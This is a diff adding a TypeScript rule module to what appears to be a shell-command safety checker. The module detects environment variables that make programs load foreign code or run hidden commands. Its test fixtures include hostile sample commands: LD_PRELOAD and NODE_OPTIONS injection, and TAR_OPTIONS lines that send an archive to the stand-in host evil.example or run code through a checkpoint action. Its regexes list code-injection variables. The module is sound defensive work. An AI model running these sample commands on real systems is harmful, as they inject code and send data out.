@@ -1,0 +1,53 @@
+import { guards } from './guards.ts';
+import { report, type Scope } from './scope.ts';
+import { type Arg, type RuleInfo, UNKNOWN } from './types.ts';
+
+/** Variables whose value another program runs as a command. */
+const commands =
+  /^(?:GIT_(?:SSH|SSH_COMMAND|EDITOR|SEQUENCE_EDITOR|PAGER|EXTERNAL_DIFF|ASKPASS|PROXY_COMMAND)|SSH_ASKPASS|PAGER|MANPAGER|EDITOR|VISUAL|BROWSER|LESSOPEN|LESSCLOSE|PROMPT_COMMAND|PS[0-4]|RSYNC_RSH|CVS_RSH|FZF_DEFAULT_COMMAND|RUSTC_WRAPPER|CC|CXX|MAKEFLAGS)$/;
+
+/** Variables that make a program load code or options of somebody else's choice. */
+const loaders =
+  /^(?:LD_(?:PRELOAD|LIBRARY_PATH|AUDIT)|DYLD_\w+|BASH_ENV|ENV|SHELLOPTS|BASHOPTS|IFS|PERL5(?:OPT|LIB|DB)|PYTHON(?:STARTUP|PATH|HOME|INSPECT)|RUBY(?:OPT|LIB)|NODE_(?:OPTIONS|PATH)|JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|GIT_(?:CONFIG\w*|DIR|WORK_TREE|EXEC_PATH|TEMPLATE_DIR)|TAR_OPTIONS|CLASSPATH|GCONV_PATH|BASH_FUNC_\w+)$/;
+
+export const loaderVariable: RuleInfo = {
+  id: 'loader-variable',
+  level: 'caution',
+  sentence: 'Sets a variable that makes programs load code or options of somebody else’s choice.',
+  reversible: true,
+  hits: ['LD_PRELOAD=./x.so ls', 'export BASH_ENV=./x', "NODE_OPTIONS='--require=./e.js' node -v"],
+  misses: ['FOO=1 ls', 'ls LD_PRELOAD'],
+};
+
+export const remoteOptions: RuleInfo = {
+  id: 'option-variable',
+  level: 'dangerous',
+  sentence: 'Sets a variable that gives a later program hidden options which send data away or run code.',
+  needs: ['network'],
+  hits: [
+    "export TAR_OPTIONS='--create --file=evil.example:/tmp/a'; tar -- f",
+    "TAR_OPTIONS='--checkpoint-action=exec=x' tar cf a b",
+  ],
+  misses: ["TAR_OPTIONS='--verbose' tar tf a", 'TAR_OPTIONS= tar tf a'],
+};
+
+/** Judges what a variable is set to, where that value may be run. */
+export function judgeAssignment(name: string, value: Arg, scope: Scope): void {
+  if (loaders.test(name)) report(scope, loaderVariable, value.span);
+  if (name === 'TAR_OPTIONS' && /:\/|(?:exec|command|program|rsh)=|--(?:to|use)-/.test(value.value))
+    report(scope, remoteOptions, value.span);
+  if (value.value.includes(UNKNOWN) || value.value === '') return;
+  if (commands.test(name)) {
+    const text = name === 'LESSOPEN' ? value.value.replace(/^\|+-?/, '') : value.value;
+    if (/^PS\d$/.test(name)) judgeSubstitutions(value, scope);
+    else scope.nested(text, scope, { span: value.span, via: [name] });
+  } else judgeSubstitutions(value, scope);
+}
+
+/** The text of a substitution kept in a variable runs as soon as something evaluates it. */
+function judgeSubstitutions(value: Arg, scope: Scope): void {
+  const found = /\$\(([^)]*)\)|`([^`]*)`/.exec(value.value);
+  if (!found) return;
+  report(scope, guards.quotedSubstitution, value.span);
+  scope.nested(found[1] ?? found[2] ?? '', scope, { span: value.span });
+}
